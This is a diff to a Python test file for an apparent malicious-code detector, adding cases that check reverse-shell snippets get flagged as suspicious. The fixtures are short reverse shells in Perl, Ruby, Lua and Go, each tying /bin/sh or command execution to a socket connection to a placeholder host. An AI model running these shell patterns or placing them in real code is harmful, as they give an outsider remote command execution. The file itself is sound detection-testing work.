@@ -6,7 +6,9 @@ from hypothesis import strategies as st
 
 from vedette.core.nouns import Lines
 from vedette.core.text import cut
+from vedette.core.verdicts import Verdict
 from vedette.triage.allowance import Allowance
+from vedette.triage.behaviours import Read, judge, observed
 from vedette.triage.fact import Act, Fact
 from vedette.triage.facts import facts
 from vedette.triage.kinds import Kind
@@ -77,3 +79,29 @@ def test_every_quote_stands_where_it_is_said_to(text: str, kind: Kind) -> None:
     for one in facts(sample, Allowance()):
         assert isinstance(one.place, Lines)
         assert cut(sample.text, one.place) == one.quote
+
+
+@pytest.mark.parametrize(
+    ("kind", "text"),
+    [
+        (Kind.PERL, 'connect(S,sockaddr_in($p,$i));open(STDIN,">&S");exec("/bin/sh -i");\n'),
+        (Kind.PERL, "my $c = IO::Socket::INET->new('a:1');\nSTDIN->fdopen($c, 'r');\nsystem $_ while <>;\n"),
+        (
+            Kind.RUBY,
+            's = TCPSocket.new("a", 1)\nwhile (c = s.gets)\n  IO.popen(c, "r") { |f| s.print f.read }\nend\n',
+        ),
+        (Kind.LUA, 't = socket.tcp()\nt:connect("a", 1)\nlocal r = t:receive()\nio.popen(r, "r")\n'),
+        (Kind.GO, 'c, _ := net.Dial("tcp", "a:1")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c\n'),
+        (Kind.RUBY, 'f = TCPSocket.open("a", 1).to_i\nexec sprintf("/bin/sh -i <&%d >&%d", f, f)\n'),
+    ],
+)
+def test_shells_tied_to_connections(kind: Kind, text: str) -> None:
+    sample = Sample(name="a", data=text.encode(), kind=kind)
+    seen = observed([Read(sample=sample, facts=read(text, kind))])
+    assert {one.page.id for one in seen} & {"runs-received", "shell-on-connection"}
+    assert judge(sample, seen).verdict is Verdict.SUSPICIOUS
+
+
+def test_what_a_line_runs_is_told() -> None:
+    (one,) = read('print("a"); system("/bin/sh")\n', Kind.RUBY)
+    assert one.target == "/bin/sh"
